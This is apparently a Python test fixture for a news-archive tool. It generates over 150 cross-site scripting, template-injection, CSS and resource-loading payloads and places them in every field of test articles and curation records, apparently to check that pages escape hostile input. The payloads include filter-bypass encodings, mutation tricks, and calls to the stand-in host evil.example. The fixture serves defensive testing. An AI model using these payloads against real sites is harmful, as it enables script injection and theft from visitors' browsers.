"""Words that want to be more than words: over 154 attempts to have a reader's browser run, load or leave something.

Each attempt calls `alert` or asks `evil.example`; none is taken from a list of others, all are put together here.
"""

import base64
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

from builders import make_article
from reading_room import block

from archive.curation import Curator
from archive.mark_curation import MarkCurator
from archive.store import open_store
from archive.story_curation import StoryCurator
from archive.story_pass import keep_stories
from schemas.document import BlockKind
from schemas.errors import CorrectionError
from schemas.page import Source
from schemas.relation import RelationKind
from schemas.report import Outcome, Reason, Rejection

RUN = "alert(1)"
CALL = "//evil.example/x"

ELEMENTS = ("img", "svg", "math", "video", "audio", "body", "input", "details", "select", "iframe", "object", "marquee")
HANDLERS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onstart")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java\x00script:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&#58;",
    "javascript\u200b:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;charset=utf-7,",
    "livescript:",
    "blob:",
    "view-source:javascript:",
    "https:javascript:",
    "//evil.example/",
    "\\\\evil.example\\",
    "http:evil.example/",
)
BREAK_OUT = (
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</p></article></main></body>",
    "*/",
    "?>",
    "%}",
    "}}",
)
"""What may end the place in which words stand; a script comes behind each."""

TEMPLATES = (
    "{{7*7}}",
    "{{ 7*'7' }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include 'index.html' %}",
    "{{ request.scope }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{%raw%}<b>{%endraw%}",
    "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
    "{{'<img src=x onerror=alert(1)>'|safe}}",
)
STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
    "<p style=\"position:fixed;inset:0;background:url('//evil.example/x')\">over all</p>",
    '"style="animation-name:x"onanimationstart="alert(1)',
)
LOADERS = (
    "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 2x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video poster=//evil.example/x><track src=//evil.example/t default></video>",
    "<audio autoplay src=//evil.example/x></audio>",
    "<embed src=//evil.example/x>",
    "<object data=//evil.example/x></object>",
    "<iframe src=//evil.example/x></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<frameset><frame src=//evil.example/x></frameset>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=preconnect href=//evil.example>",
    "<link rel=import href=//evil.example/x>",
    "<link rel=manifest href=//evil.example/x>",
    "<form action=//evil.example/x><button autofocus>send</button></form>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<input type=image src=//evil.example/x>",
    "<isindex type=image src=//evil.example/x onerror=alert(1)>",
    "<table background=//evil.example/x><tr><td>x</table>",
    "<a href=x ping=//evil.example/x>x</a>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<svg><use href=//evil.example/x#y></use></svg>",
    "<svg><image href=//evil.example/x /></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example/x'>]>&e;",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><form><table><img src=x onerror=alert(1)></form>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a title="&quot; onmouseover=&quot;alert(1)">x</a>',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<plaintext><img src=x onerror=alert(1)>",
)
ENCODINGS = (
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0b>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror\n=\nalert(1)\n>",
    "\u202e<script>alert(1)</script>\u2066",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "<ſcript>alert(1)</ſcript>",
    "<ımg src=x onerror=alert(1)>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script\n>",
    "<script>alert`1`</script>",
    "<script>/*\n*/alert(1)//",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\r\n\r\n<script>alert(1)</script>",
    "x\r\nSet-Cookie: a=b\r\n",
)


def payloads() -> list[str]:
    """Return all attempts, each once."""
    packed = base64.b64encode(b"<script>alert(1)</script>").decode()
    made = [
        f"<{element} {HANDLERS[number % len(HANDLERS)]}={RUN} src=x autofocus>"
        for number, element in enumerate(ELEMENTS)
    ]
    made += [f'<img src=x {handler}="{RUN}">' for handler in HANDLERS]
    made += [f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES]
    made += [f"{end}<script>{RUN}</script>" for end in BREAK_OUT]
    made += [f"x{end} onmouseover={end}{RUN}" for end in ('"', "'", "`", "")]
    made += [f"<a href=data:text/html;base64,{packed}>x</a>", f"<object data=data:text/html;base64,{packed}></object>"]
    return list(dict.fromkeys([*made, *TEMPLATES, *STYLES, *LOADERS, *MUTATIONS, *ENCODINGS]))


def addresses() -> list[str]:
    """Return attempts that are the whole of an address."""
    made = [f"{scheme}{RUN}" for scheme in SCHEMES]
    return [*made, f'https://evil.example/"onmouseover="{RUN}', f"https://evil.example/'><script>{RUN}</script>"]


def attacked_articles() -> Iterator[Any]:
    """Yield an article for each attempt, with it in every place where a page can put words."""
    bad = addresses()
    for number, attack in enumerate(payloads()):
        address = bad[number % len(bad)] if number % 2 else f"https://evil.example/{number}/{attack}"
        yield make_article(
            url=address,
            path=f"pages/{number} {attack.replace('/', '|')}.html",
            member=f"{attack}.html",
            record_id=f"attack-{number} {attack}",
            headline=f"Alert {number} {attack}",
            outlet=f"{attack} {number % 40}",
            language=attack if number % 3 == 0 else "en",
            authors=[attack, f"{number} {attack}"],
            agency=attack,
            standfirst=attack,
            section=attack,
            tags=[attack, f"tag {attack}"],
            image=bad[number % len(bad)],
            canonical_url=bad[number % len(bad)],
            dateline_place=attack,
            published="2021-03-02",
            asserted={"headline": f"Alert {number} said {attack}"} if number % 5 == 0 else None,
            warnings=[attack],
            blocks=[
                block(kind, f"{attack} | {attack}\nalert {number}", kept=kept, rule=attack)
                for kind in BlockKind
                for kept in (True, False)
            ],
        )


def attacked_archive(folder: Path, name: str = "press") -> Path:
    """Make an archive of all attempts, which persons repeat in what they say of it, and which tie its articles."""
    path = folder / f"{name}.db"
    attacks = payloads()
    left_out = [
        Rejection(source=Source(path=attack), outcome=Outcome.REJECTED, reason=Reason.NO_TEXT, detail=attack)
        for attack in attacks
    ]
    with open_store(path) as store:
        run = store.begin_run("ingest", version="0", options={"told": attacks[0]})
        list(store.add_all([*attacked_articles(), *left_out], run))
        keep_stories(store)
        store.end_run(run, {"inputs": len(attacks)})
        _said(store, attacks)
    return path


def _said(store: Any, attacks: list[str]) -> None:  # noqa: ANN401  a store
    stories, curator, marks = StoryCurator(store), Curator(store), MarkCurator(store)
    for number in range(0, len(attacks) - 1, 6):
        attack, one, other = attacks[number], f"A-{number + 1:04d}", f"A-{number + 2:04d}"
        third = f"A-{(number + 3) % len(attacks) + 1:04d}"
        curator.set_fact(one, "section", f"said {attack}", because=attack, by=attack)
        curator.relate(one, other, RelationKind.REWORKED, because=attack, by=attack)
        with suppress(CorrectionError):  # they may be in one story already
            stories.merge([one, third], because=attack, by=attack)
        stories.name(f"s-{one}", f"Alert story {attack}", because=attack, by=attack)
        marks.add_note(one, attack, is_private=False, by=attack)
        marks.add_tag(one, f"said {attack}".replace(";", ","), because=attack, by=attack)
